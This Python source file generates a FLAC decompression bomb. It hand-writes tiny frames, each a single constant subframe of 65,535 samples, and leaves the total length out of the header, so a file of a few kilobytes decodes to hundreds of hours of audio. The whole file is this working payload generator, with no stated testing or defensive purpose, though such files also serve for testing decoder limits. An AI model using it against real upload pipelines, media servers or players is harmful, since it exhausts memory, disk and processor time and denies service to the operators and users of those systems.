"""A decompression bomb: a small FLAC file that decodes to hundreds of hours.

Each frame is one CONSTANT subframe (a single 16-bit zero standing for 65,535
samples), about 15 bytes for eight seconds at 8 kHz; STREAMINFO leaves the
total length unset, so only decoding tells how long the audio is. Written
frame by frame from the FLAC format description, since no encoder makes such
a file on purpose.
"""

from __future__ import annotations

import struct
from pathlib import Path

BLOCK = 65535  # the largest FLAC block: the fewest bytes per second of audio


def write_flac_bomb(path: Path, hours: float, *, rate: int = 8000) -> Path:
    frames = -(-int(hours * 3600 * rate) // BLOCK)
    # STREAMINFO: block sizes, unknown frame sizes, rate/channels/bits, total 0 (unknown), no MD5
    info = struct.pack(">HH", BLOCK, BLOCK) + bytes(6)
    info += ((rate << 44) | (0 << 41) | (15 << 36)).to_bytes(8, "big") + bytes(16)
    out = bytearray(b"fLaC" + bytes([0x80, 0, 0, len(info)]) + info)
    for number in range(frames):
        # sync + fixed blocking; block size in 16 bits after the header; rate from STREAMINFO;
        # mono, 16 bits; the frame number UTF-8 coded
        header = bytes([0xFF, 0xF8, 0x70, 0x08]) + _utf8_number(number) + struct.pack(">H", BLOCK - 1)
        header += bytes([_crc8(header)])
        frame = header + b"\x00\x00\x00"  # CONSTANT subframe, value 0
        out += frame + struct.pack(">H", _crc16(frame))
    path.write_bytes(bytes(out))
    return path


def _utf8_number(n: int) -> bytes:
    if n < 0x80:
        return bytes([n])
    for length, lead in ((2, 0xC0), (3, 0xE0), (4, 0xF0), (5, 0xF8), (6, 0xFC)):
        if n < 1 << (5 * length + 1):
            tail = [0x80 | (n >> (6 * i) & 0x3F) for i in range(length - 1)]
            return bytes([lead | n >> (6 * (length - 1)), *tail[::-1]])
    raise ValueError(f"frame number {n} does not fit")


def _crc8(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc << 1 ^ 0x07) & 0xFF if crc & 0x80 else crc << 1 & 0xFF
    return crc


def _crc16(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 8
        for _ in range(8):
            crc = (crc << 1 ^ 0x8005) & 0xFFFF if crc & 0x8000 else crc << 1 & 0xFFFF
    return crc
